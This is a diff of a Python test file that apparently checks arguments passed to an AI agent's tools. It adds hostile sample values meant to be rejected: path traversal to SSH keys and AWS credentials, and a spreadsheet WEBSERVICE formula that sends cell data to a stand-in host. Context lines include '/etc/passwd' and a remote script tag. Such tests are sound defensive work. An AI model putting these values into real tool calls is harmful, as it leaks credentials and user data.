@@ -224,7 +224,9 @@ def test_a_kind_may_be_spelled_as_its_service_spells_it(kind):
 
 
 def test_what_is_beside_a_path_says_where_it_is():
-    assert "path" not in planned("get_file_contents", owner=TEXT, repo=TEXT, path=TEXT)[1]
+    elsewhere = planned("get_file_contents", owner=TEXT, repo=TEXT, path=TEXT)[1]["path"]
+    assert holds(elsewhere, {"path": "/opt/src/a.py"})
+    assert not holds(elsewhere, {"path": "../../.ssh/id_rsa"})
     assert "path" in planned("push_files", owner=TEXT, repo=TEXT, path=TEXT)[1]
     assert "path" in planned("read_file", path=TEXT)[1]
 
@@ -300,6 +302,9 @@ def test_what_is_asked_for_beside_a_name_says_what_it_costs():
         ("get_asset", "uri", "asset://42", "file:///etc/passwd"),
         ("create_wiki_page", "content", "# Set-up", "<script src=//x.example></script>"),
         ("open_ticket", "cc_emails", None, "eve@x.example"),
+        ("read_note", "identifier", "plans/2026", "../../.aws/credentials"),
+        ("write_cell", "value", "=SUM(A1:A9)", '=WEBSERVICE("https://x.example/"&A1)'),
+        ("label_email", "label_id", "Label_12", "TRASH"),
         ("read_file", "path", "/home/ann/projects/a.txt", "/home/ann/private/projects/a.txt"),
         ("read_file", "path", "/srv/media/a.png", "/home/ann/.ssh/id_rsa"),
     ],
